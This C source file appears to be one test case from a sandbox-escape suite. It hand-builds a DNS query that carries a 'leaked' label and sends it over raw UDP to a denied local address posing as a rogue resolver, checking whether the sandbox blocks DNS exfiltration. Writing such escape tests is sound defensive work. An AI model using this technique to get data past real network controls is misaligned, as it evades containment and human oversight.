/*
 * Vector 12: DNS over a raw UDP socket to a resolver that is not the proxy
 * (the denied address plays the rogue resolver): exfiltration in the name.
 * expect: ptrace_network
 * expect-match: 127.0.0.2
 */
#include "esc.h"

int main(void)
{
	struct sockaddr_in sin = esc_deny_sin();
	/* Header: id 0x1234, RD, one question: <secret-ish label>.exfil.test A IN */
	static const unsigned char q[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
					   6,    'l',  'e',  'a',  'k', 'e', 'd', 5, 'e', 'x', 'f', 'i', 'l',
					   4,    't',  'e',  's',  't', 0,   0,   1, 0,   1 };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(s, (struct sockaddr *)&sin, sizeof(sin)) < 0)
		esc_blocked("connect(udp resolver): %s", strerror(errno));
	if (send(s, q, sizeof(q), 0) < 0)
		esc_blocked("send: %s", strerror(errno));
	if (esc_recv_contains(s, ESC_BANNER, 2000))
		esc_success("a DNS query reached a non-proxy resolver and was answered");
	esc_blocked("no answer from the rogue resolver");
}
